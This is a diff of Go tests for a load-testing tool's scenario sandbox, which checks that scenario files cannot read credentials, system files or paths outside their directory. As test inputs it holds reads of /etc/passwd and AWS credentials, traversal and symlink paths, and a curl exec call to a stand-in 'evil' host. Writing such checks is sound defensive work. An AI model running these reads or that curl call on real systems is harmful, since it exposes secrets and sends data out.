@@ -41,7 +41,7 @@ func mailbox(t *testing.T) (dir, outside string) {
 	root := t.TempDir()
 	dir, outside = filepath.Join(root, "mail"), filepath.Join(root, "outside")
 	for path, text := range map[string]string{
-		"mail/sub/data": "contents", "mail/sizes.csv": "1KiB\n", "mail/day.csv": "0,5\n10,10\n", "mail/hosts": "127.0.0.1:1\n", "mail/.hidden/data": "x",
+		"mail/sub/data": "contents", "mail/sizes.csv": "1KiB\n", "mail/hosts": "127.0.0.1:1\n", "mail/.hidden/data": "x",
 		"outside/data": "CANARY", "outside/sizes.csv": "1KiB\n",
 	} {
 		path = filepath.Join(root, filepath.FromSlash(path))
@@ -53,7 +53,7 @@ func mailbox(t *testing.T) (dir, outside string) {
 		}
 	}
 	if runtime.GOOS != "windows" { // where links need rights
-		for name, to := range map[string]string{"link": "../outside", "file-link": "../outside/data", "new-link": "../outside/new", "inner": "sub"} {
+		for name, to := range map[string]string{"link": "../outside", "file-link": "../outside/data", "new-link": "../outside/new"} {
 			if err := os.Symlink(to, filepath.Join(dir, name)); err != nil {
 				t.Fatal(err)
 			}
@@ -69,7 +69,8 @@ func runScenario(args ...string) (code int, out, errs string) {
 	env.Stderr = &stderr
 	env.Getenv = func(name string) string {
 		return map[string]string{
-			"WARP_ACCESS_KEY": "access", "WARP_SECRET_KEY": "CANARY-KEY", "WARP_TOKEN": "CANARY-TOKEN", "AWS_PROFILE": "CANARY-AWS", "OTHER": "CANARY-OTHER",
+			"WARP_ACCESS_KEY": "access", "WARP_SECRET_KEY": "CANARY-KEY", "WARP_TOKEN": "CANARY-TOKEN",
+			"AWS_PROFILE": "CANARY-AWS", "OTHER": "CANARY-OTHER",
 		}[name]
 	}
 	code = Main(env)
@@ -108,11 +109,11 @@ func TestMailedScenario(t *testing.T) {
 		{"keys of a store", "TARGET", `, credentials-file: /root/.aws/credentials`, out},
 		{"authorities", "TARGET", `, ca-file: ../outside/data`, out},
 		{"key of a certificate", "TARGET", `, key-file: ../outside/data`, out},
-		{"rate", "PHASES", `  - {run: b, do: [{get: p}], load: {rate: "file(/etc/passwd,0.1)", max-inflight: 1}, until: 1s}`, out},
-		{"rate with a scale", "PHASES", `  - {run: b, do: [{get: p}], load: {rate: "file(../outside/data)", scale: 2, max-inflight: 1}, until: 1s}`, out},
+		{"rate", "PHASES", `  - {run: b, do: [{get: p}], load: {rate: "file(/etc/passwd,0.1)"}, until: 1s}`, out},
+		{"rate with a scale", "PHASES", `  - {run: b, do: [{get: p}], load: {rate: "file(../outside/data)", scale: 2}, until: 1s}`, out},
 		{"threads", "PHASES", `  - {run: b, do: [{get: p}], load: {threads: "file(sub/../../outside/data)"}, until: 1s}`, out},
 		{"trace", "PHASES", `  - {run: b, do: [{replay: ../outside/data}], load: 1, until: {ops: 2}}`, out},
-		{"values of a sweep", "PHASES", `  - {run: b, do: [{get: p}], load: {sweep: obj.size, over: ["file(/etc/passwd)"]}, until: {ops: 2}}`, ""},
+		{"sweep", "PHASES", `  - {run: b, do: [{get: p}], load: {sweep: obj.size, over: ["file(/etc/passwd)"]}, until: {ops: 2}}`, ""},
 
 		{"report", "OUTPUTS", `, json: "../outside.json"`, out},
 		{"page", "OUTPUTS", `, html: "` + filepath.ToSlash(outside) + `/x.html"`, out},
@@ -151,7 +152,8 @@ func TestMailedScenario(t *testing.T) {
 // TestAllMistakesOfAccess: each file and variable that is refused is named at once.
 func TestAllMistakesOfAccess(t *testing.T) {
 	dir, _ := mailbox(t)
-	path := mail(t, dir, " DATA", `, prefix: "${WARP_TOKEN}", content: "file(/etc/passwd)", size: "file(/etc/hosts)"`, " OUTPUTS", ", json: ../x.json", " TARGET", `, ca-file: ../ca.pem`)
+	path := mail(t, dir, " DATA", `, prefix: "${WARP_TOKEN}", content: "file(/etc/passwd)", size: "file(/etc/hosts)"`,
+		" OUTPUTS", ", json: ../x.json", " TARGET", `, ca-file: ../ca.pem`)
 	_, _, stderr := runScenario("--check", path)
 	for _, want := range []string{"WARP_TOKEN", "/etc/passwd", "/etc/hosts", "../x.json", "../ca.pem"} {
 		if !strings.Contains(stderr, want) {
@@ -164,7 +166,8 @@ func TestAllMistakesOfAccess(t *testing.T) {
 func TestAccessIsSaid(t *testing.T) {
 	dir, outside := mailbox(t)
 	path := mail(t, dir, " DATA", `, prefix: "x-${OTHER}", content: "file(sub)", size: "file(sizes.csv)"`, `"127.0.0.1:1"`, `"file:hosts"`,
-		"PHASES", `  - exec: {command: [curl, "http://evil/${A:-b}"]}`, " OUTPUTS", ", json: sub/x.json, html: "+filepath.ToSlash(outside)+"/x.html")
+		"PHASES", `  - exec: {command: [curl, "http://evil/${A:-b}"]}`, " OUTPUTS",
+		", json: sub/x.json, html: "+filepath.ToSlash(outside)+"/x.html")
 	for _, arg := range []string{"--check", "--explain"} {
 		code, stdout, stderr := runScenario(arg, "--allow=files", "--allow=env:OTHER,env:NONE", path)
 		if code != exitOK {
@@ -184,9 +187,14 @@ func TestAccessIsSaid(t *testing.T) {
 // TestSecretsAreNeverAllowed: no flag makes a secret a value of a scenario.
 func TestSecretsAreNeverAllowed(t *testing.T) {
 	dir, _ := mailbox(t)
-	for _, name := range []string{"WARP_SECRET_KEY", "WARP_ACCESS_KEY", "WARP_TOKEN", "WARP_HTTP_TOKEN", "WARP_SESSION_TOKEN", "WARP_PASSWORD", "AWS_PROFILE", "aws_secret_access_key", "WARP_INFLUXDB_CONNECT"} {
+	for _, name := range []string{
+		"WARP_SECRET_KEY", "WARP_ACCESS_KEY", "WARP_TOKEN", "WARP_HTTP_TOKEN", "WARP_SESSION_TOKEN", "WARP_PASSWORD", "AWS_PROFILE",
+		"aws_secret_access_key", "WARP_INFLUXDB_CONNECT",
+	} {
 		path := mail(t, dir, " DATA", `, prefix: "${`+name+`:-x}"`)
-		for _, args := range [][]string{{"--allow=env:" + name}, {"--allow=files", "--allow=exec,env:OTHER,env:" + name}, {"--set=" + name + "=x"}} {
+		for _, args := range [][]string{
+			{"--allow=env:" + name}, {"--allow=files", "--allow=exec,env:OTHER,env:" + name}, {"--set=" + name + "=x"},
+		} {
 			if code, _, stderr := runScenario(append(args, "--check", path)...); code != exitUsage || !strings.Contains(stderr, name+" is secret") {
 				t.Errorf("%q: exit code %d: %s", args, code, stderr)
 			}
@@ -194,6 +202,33 @@ func TestSecretsAreNeverAllowed(t *testing.T) {
 	}
 	for _, name := range []string{"OBJECTS", "WARP_HOST", "MY_AWS_BUCKET", "KEYS"} {
 		if secret.Variable(name) {
+			t.Errorf("%s is no secret", name)
+		}
+	}
+}
+
+// TestSecretListsAgree: a variable that no scenario may have is that of a flag whose value is never recorded, and the other way round.
+func TestSecretListsAgree(t *testing.T) {
+	env, _ := testEnv()
+	secrets := 0
+	for _, c := range root(&env).Commands {
+		for _, f := range c.Flags {
+			for _, name := range f.(helpFlag).GetEnvVars() {
+				flag := f.Names()[0]
+				if strings.HasPrefix(name, "WARP_") && secret.Variable(name) != secret.Flag(flag) {
+					t.Errorf("--%s is secret: %v; its variable %s: %v", flag, secret.Flag(flag), name, secret.Variable(name))
+				}
+				if secret.Flag(flag) {
+					secrets++
+				}
+			}
+		}
+	}
+	if secrets == 0 {
+		t.Error("no flag is secret")
+	}
+	for _, name := range warpVariables {
+		if told := strings.Contains(name, "TOKEN") || strings.HasSuffix(name, "_KEY"); told && !secret.Variable(name) {
 			t.Errorf("%s is no secret", name)
 		}
 	}
@@ -213,7 +248,9 @@ func TestFlagsOfScenariosReadNothingOutside(t *testing.T) {
 				continue
 			}
 			seen[name] = true
-			for _, value := range []string{none, "file(" + none + ")", "file:" + none, "127.0.0.1:1,file:" + none, "../outside/none", "file(../outside/none,2)"} {
+			for _, value := range []string{
+				none, "file(" + none + ")", "file:" + none, "127.0.0.1:1,file:" + none, "../outside/none", "file(../outside/none,2)",
+			} {
 				p := newScenarioFlags(t.Context(), &env, info.Name, nil, newAccess(filepath.Join(dir, "x"), &allowance{}, nil, &env))
 				err := p.Set("host", "127.0.0.1:1")
 				if err == nil && name != "credentials-file" {
@@ -236,7 +273,9 @@ func TestFlagsOfScenariosReadNothingOutside(t *testing.T) {
 			}
 		}
 	}
-	for _, name := range []string{"host", "ca-file", "cert-file", "key-file", "credentials-file", "obj.size", "obj.content", "rate", "concurrent", "trace"} {
+	for _, name := range []string{
+		"host", "ca-file", "cert-file", "key-file", "credentials-file", "obj.size", "obj.content", "rate", "concurrent", "trace",
+	} {
 		if !refused[name] {
 			t.Errorf("--%s names files, and was never refused one", name)
 		}
@@ -258,7 +297,10 @@ func TestWebTokenStays(t *testing.T) {
 
 // TestFilesIn: what is refused at once when a flag is set is what is refused when files are read.
 func TestFilesIn(t *testing.T) {
-	for value, want := range map[string][]string{"rate=file(a,0.1)": {"a"}, "obj.size=file(a,b)": {"a,b"}, "host=x,file:h, file:i": {"h", "i"}, "ca-file=x": {"x"}, "trace=t": {"t"}, "prefix=x": nil} {
+	for value, want := range map[string][]string{
+		"rate=file(a,0.1)": {"a"}, "obj.size=file(a,b)": {"a,b"}, "host=x,file:h, file:i": {"h", "i"}, "ca-file=x": {"x"}, "trace=t": {"t"},
+		"prefix=x": nil,
+	} {
 		flag, text, _ := strings.Cut(value, "=")
 		if got := filesIn(flag, text); !slices.Equal(got, want) {
 			t.Errorf("%s names %q, want %q", value, got, want)
